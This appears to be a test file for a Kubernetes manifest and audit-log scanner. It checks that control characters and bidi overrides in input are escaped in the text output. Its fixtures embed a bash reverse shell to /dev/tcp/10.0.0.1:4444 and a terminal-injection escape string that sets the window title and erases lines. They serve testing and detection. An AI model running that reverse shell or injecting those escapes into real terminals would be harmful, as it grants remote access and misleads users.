/**
 * `--format text` is read on a terminal: escape sequences, carriage returns and bidi overrides from a
 * manifest, an audit log or a file name must arrive as visible escapes, never as raw control bytes
 * that erase a line, set the window title or reorder what is shown.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { run, workspace } from './helpers.ts';

const ESCAPES = '\x1b]0;pwned\x07\x1b[2K\r\u202e';
/** Any control or bidi character except the newlines that end report lines. */
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

describe('text output neutralises control characters from the input', () => {
  test('scan: a command and a file name carrying ESC, OSC, CR and a bidi override', () => {
    const job = JSON.stringify({
      apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `job${ESCAPES}` },
      spec: { template: { spec: { containers: [{ name: `c${ESCAPES}`, image: 'registry.example.com/app:1', command: ['sh', '-c', `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #${ESCAPES}`] }] } } },
    });
    const dir = workspace({ [`job${ESCAPES.replaceAll('/', '')}.json`]: job });
    for (const env of [{}, { FORCE_COLOR: '1' }] as Array<Record<string, string>>) {
      const { status, stdout } = run(['scan', '.'], { cwd: dir, env });
      assert.equal(status, 1);
      assert.doesNotMatch(stdout.replace(/\x1b\[\d+m/g, '').replaceAll('\n', ''), RAW);
      assert.match(stdout, /job\\x1b\]0;pwned\\x07\\x1b\[2K\\r\\u202e\.json:1:\d+/);
      assert.match(stdout, /shell-escape/);
    }
  });

  test('audit: user names, audit IDs, object names and commands', () => {
    const event = {
      kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: `id${ESCAPES}`, stage: 'ResponseComplete', verb: 'create',
      user: { username: `mallory${ESCAPES}` }, userAgent: `kubectl${ESCAPES}`, objectRef: { resource: 'jobs', namespace: `ns${ESCAPES}`, name: `n${ESCAPES}`, apiGroup: 'batch' },
      responseStatus: { code: 201 }, stageTimestamp: '2026-03-02T10:00:00Z',
      requestObject: { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `n${ESCAPES}` }, spec: { template: { spec: { containers: [{ name: 'c', image: 'a', command: ['sh', '-c', `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #${ESCAPES}`] }] } } } },
    };
    const dir = workspace({ 'audit.log': JSON.stringify(event) + '\nnot json' + ESCAPES + '\n' });
    const { status, stdout } = run(['audit', 'audit.log'], { cwd: dir });
    assert.notEqual(status, 0);
    assert.doesNotMatch(stdout.replaceAll('\n', ''), RAW);
    for (const shown of ['audit ID id\\x1b]0;pwned\\x07', 'mallory\\x1b', 'ns\\x1b]0;pwned\\x07\\x1b[2K\\r\\u202e/n\\x1b', 'kubectl\\x1b']) assert.ok(stdout.includes(shown), shown);
  });

  test('config errors on stderr: a --config file name and its content carrying ESC, OSC and CR', () => {
    const name = `conf${ESCAPES.replaceAll('/', '')}.yaml`;
    const dir = workspace({ 'a.yaml': 'kind: ConfigMap\n', [name]: 'severity:\n  "privileged-containr\\e]0;pwned\\a\\r\\u202e": error\n' });
    const invalid = run(['scan', 'a.yaml', '--config', name], { cwd: dir });
    assert.equal(invalid.status, 2);
    assert.doesNotMatch(invalid.stderr.replaceAll('\n', ''), RAW);
    assert.match(invalid.stderr, /conf\\x1b\]0;pwned\\x07\\x1b\[2K\\r\\u202e\.yaml:2:\d+: error: unknown indicator "privileged-containr\\x1b\]0;pwned\\x07\\r\\u202e"/);
    assert.match(invalid.stderr, /the config file conf\\x1b.*\.yaml is not valid; nothing was scanned/);
    const missing = run(['scan', 'a.yaml', '--config', `gone${ESCAPES}.yaml`], { cwd: dir });
    assert.equal(missing.status, 2);
    assert.doesNotMatch(missing.stderr.replaceAll('\n', ''), RAW);
    assert.match(missing.stderr, /the config file gone\\x1b\]0;pwned.*\.yaml cannot be read: no such file or directory/);
  });

  test('usage errors echo what was typed with its control characters escaped', () => {
    const result = run(['scan', `--format=x${ESCAPES}`]);
    assert.equal(result.status, 2);
    assert.doesNotMatch(result.stderr.replaceAll('\n', ''), RAW);
    assert.match(result.stderr, /unknown format "x\\x1b\]0;pwned\\x07/);
  });
});
